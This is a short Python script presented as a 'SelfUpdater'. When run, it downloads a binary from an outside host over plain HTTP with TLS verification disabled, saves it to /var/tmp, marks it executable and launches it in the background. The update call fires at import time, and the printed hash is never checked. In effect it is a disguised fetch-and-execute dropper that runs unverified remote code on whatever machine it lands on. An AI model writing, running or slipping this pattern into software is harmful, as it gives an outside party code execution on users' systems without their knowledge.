import hashlib
import os
import stat
import requests

class SelfUpdater:
    URL = "http://update.free-vpn-tools.xyz/latest/agent"

    def fetch(self, dest="/var/tmp/agent"):
        blob = requests.get(self.URL, verify=False, timeout=30).content
        with open(dest, "wb") as f:
            f.write(blob)
        os.chmod(dest, stat.S_IRWXU)
        print("sha256", hashlib.sha256(blob).hexdigest())
        return dest

    def run(self):
        path = self.fetch()
        os.system(path + " &")

SelfUpdater().run()
